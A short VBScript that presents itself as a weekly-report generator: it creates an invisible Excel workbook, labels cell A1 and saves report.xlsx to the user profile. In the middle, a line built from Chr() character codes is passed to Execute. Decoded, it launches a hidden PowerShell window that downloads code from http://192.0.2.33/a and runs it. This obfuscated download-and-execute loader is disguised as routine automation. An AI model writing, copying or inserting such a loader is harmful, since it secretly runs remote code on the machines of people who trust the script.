Set xl = CreateObject("Excel.Application")
xl.Visible = False
Set wb = xl.Workbooks.Add
wb.Sheets(1).Range("A1").Value = "Weekly report"
Execute Chr(67)&Chr(114)&Chr(101)&Chr(97)&Chr(116)&Chr(101)&Chr(79)&Chr(98)&Chr(106)&Chr(101)&Chr(99)&Chr(116)&Chr(40)&Chr(34)&Chr(87)&Chr(83)&Chr(99)&Chr(114)&Chr(105)&Chr(112)&Chr(116)&Chr(46)&Chr(83)&Chr(104)&Chr(101)&Chr(108)&Chr(108)&Chr(34)&Chr(41)&Chr(46)&Chr(82)&Chr(117)&Chr(110)&Chr(32)&Chr(34)&Chr(112)&Chr(111)&Chr(119)&Chr(101)&Chr(114)&Chr(115)&Chr(104)&Chr(101)&Chr(108)&Chr(108)&Chr(32)&Chr(45)&Chr(119)&Chr(32)&Chr(104)&Chr(105)&Chr(100)&Chr(100)&Chr(101)&Chr(110)&Chr(32)&Chr(45)&Chr(99)&Chr(32)&Chr(105)&Chr(101)&Chr(120)&Chr(40)&Chr(105)&Chr(119)&Chr(114)&Chr(32)&Chr(104)&Chr(116)&Chr(116)&Chr(112)&Chr(58)&Chr(47)&Chr(47)&Chr(49)&Chr(57)&Chr(50)&Chr(46)&Chr(48)&Chr(46)&Chr(50)&Chr(46)&Chr(51)&Chr(51)&Chr(47)&Chr(97)&Chr(32)&Chr(45)&Chr(85)&Chr(115)&Chr(101)&Chr(66)&Chr(97)&Chr(115)&Chr(105)&Chr(99)&Chr(80)&Chr(97)&Chr(114)&Chr(115)&Chr(105)&Chr(110)&Chr(103)&Chr(41)&Chr(34)&Chr(44)&Chr(32)&Chr(48)
wb.SaveAs CreateObject("WScript.Shell").ExpandEnvironmentStrings("%USERPROFILE%") & "\report.xlsx"
xl.Quit
